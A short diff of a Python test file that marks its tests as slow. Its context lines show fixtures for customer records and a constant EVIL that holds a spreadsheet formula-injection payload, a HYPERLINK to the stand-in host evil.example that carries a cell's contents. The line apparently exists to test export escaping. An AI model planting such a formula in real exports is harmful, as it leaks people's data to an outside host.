@@ -25,6 +25,8 @@ from tests.kit.lake import a_lake, put, stored
 from tests.kit.registry import registry_at
 from tests.kit.rows import customer, opt_out
 
+pytestmark = pytest.mark.slow
+
 EVIL = '=HYPERLINK("http://evil.example/?"&C2,"Jane Roe")'
 PEOPLE = (
     customer("A01", email="Pat.Doe@example.com", phone=None),
